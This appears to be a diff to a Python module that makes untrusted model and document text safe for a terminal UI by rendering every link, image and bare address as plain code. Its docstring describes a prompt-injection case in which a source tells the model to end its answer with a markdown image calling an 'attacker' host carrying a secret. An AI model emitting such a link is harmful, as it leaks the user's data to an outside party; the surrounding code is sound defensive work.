@@ -1,8 +1,10 @@
 """Untrusted text made safe and readable on screen: answers, file names, source passages.
 
-Model text and document text may carry terminal control sequences, markdown images that
-a renderer could fetch, and links whose label hides where they go. Everything shown in the
-TUI passes through here first.
+Model text and document text may carry terminal control sequences, bidi overrides, markdown
+images that a renderer could fetch, and links whose label hides where they go (a source can
+tell the model to end its answer with `![status](https://attacker/?q=secret)`). Everything
+shown in the TUI passes through here first: no link or image in an answer is ever rendered
+as one; the person sees each address in full, as text, and copies it if they want it.
 """
 
 from __future__ import annotations
@@ -12,11 +14,23 @@ from pathlib import Path
 
 from textual.content import Content
 
+from assistant import terminal
 from assistant.terminal import sanitize
 
-_IMAGE = re.compile(r"!\[([^\]\n]*)\]\(([^)\n]*)\)")
-_LINK = re.compile(r"(?<![!\\])\[([^\]\n]+)\]\(([^)\s]*)[^)\n]*\)")
-_CITATION = re.compile(r"(?<![`\\])\[(\d{1,3})\](?![(\[:`])")
+# One pass over the answer: code spans are kept as they are; images, links, reference
+# definitions (`[1]: https://...`), autolinks (`<https://...>`) and bare addresses (which the
+# renderer would otherwise turn into links) become text; citation markers `[n]` become code.
+_MARKUP = re.compile(
+    r"(?P<code>(`+)(?:.|\n)*?(?<!`)\2(?!`))"
+    r"|!\[(?P<alt>[^\]\n]*)\]\(\s*<?(?P<src>[^)\s>]*)>?[^)\n]*\)"
+    r"|(?<![!\\])\[(?P<label>[^\]\n]+)\]\(\s*<?(?P<href>[^)\s>]*)>?[^)\n]*\)"
+    r"|^(?P<refname>[ ]{0,3}\[[^\]\n]+\]:)[ \t]*<?(?P<ref>[^\s>]+)>?"
+    r"|<(?P<auto>(?:[a-z][a-z0-9+.-]{1,31}:|www\.)[^\s<>]*)>"
+    r"|(?<![\w`])(?P<bare>(?:https?|ftp|file|data|mailto):[^\s`<>]+|www\.[^\s`<>]+)"
+    r"|(?<![`\\])\[(?P<cite>\d{1,3})\](?![(\[:`])",
+    re.IGNORECASE | re.MULTILINE,
+)
+_TRAILING = ".,;:!?)'\""
 _WORD = re.compile(r"\w+")
 _SENTENCE = re.compile(r"[^.!?\n]+[.!?]*")
 _STOPWORD_TEXT = """
@@ -32,14 +46,10 @@ PASSAGE_STYLE = "on $accent 25%"
 TERM_STYLE = "bold $text-accent"
 
 
-def one_line(text: str) -> str:
-    """Untrusted text for a single line: no control sequences, no line breaks."""
-    return " ".join(sanitize(text).split())
-
-
 def display_path(path: str) -> str:
-    """A file name as a person reads it: safe, and with `~` for the home folder."""
-    clean = one_line(path)
+    """A file name as a person reads it: control and invisible characters escaped (see
+    `assistant.terminal.display_path`), and `~` for the home folder."""
+    clean = terminal.display_path(path)
     home = str(Path.home())
     if clean == home or clean.startswith(home.rstrip("/") + "/"):
         return "~" + clean[len(home.rstrip("/")) :]
@@ -47,20 +57,42 @@ def display_path(path: str) -> str:
 
 
 def answer_markdown(text: str) -> str:
-    """Model text as markdown to render.
+    """Model text as markdown to render, with no link or image left in it.
 
-    Control sequences are stripped, images become a text note (nothing is ever fetched),
-    every link shows its full target next to its label, and citation markers `[n]` stand out.
+    Control sequences are stripped; an image becomes a text note and a link its label, each
+    followed by the address in full as code (which no renderer fetches or makes clickable);
+    autolinks, bare addresses and reference definitions are shown as code too. Citation
+    markers `[n]` stand out.
     """
-    clean = sanitize(text)
-    clean = _IMAGE.sub(lambda m: f"(image: {m[1] or 'no description'} — {m[2]})", clean)
-    clean = _LINK.sub(_link_in_full, clean)
-    return _CITATION.sub(r"`[\1]`", clean)
+    return _MARKUP.sub(_as_text, sanitize(text))
 
 
-def _link_in_full(match: re.Match[str]) -> str:
-    label, target = match[1], match[2]
-    return target if label.strip() == target else f"{label} ({target})"
+def _as_text(match: re.Match[str]) -> str:
+    found = match.groupdict()
+    if found["code"] is not None:
+        return match.group()
+    if found["src"] is not None:
+        return f"(image: {found['alt'] or 'no description'} — {_as_code(found['src'])})"
+    if found["label"] is not None:
+        label, target = found["label"], found["href"]
+        if not target or label.strip() == target:
+            return _as_code(target) if target else label
+        return f"{label} ({_as_code(target)})"
+    if found["ref"] is not None:
+        return f"{found['refname']} {_as_code(found['ref'])}"
+    if found["auto"] is not None:
+        return _as_code(found["auto"])
+    if found["cite"] is not None:
+        return f"`[{found['cite']}]`"
+    address = found["bare"]
+    kept = address.rstrip(_TRAILING)
+    return _as_code(kept) + address[len(kept) :]
+
+
+def _as_code(address: str) -> str:
+    """An address as an inline code span; a backtick in it (never valid in a URL) is
+    percent-encoded so the span cannot be closed early."""
+    return f"`{address.replace('`', '%60')}`"
 
 
 def query_terms(query: str) -> set[str]:
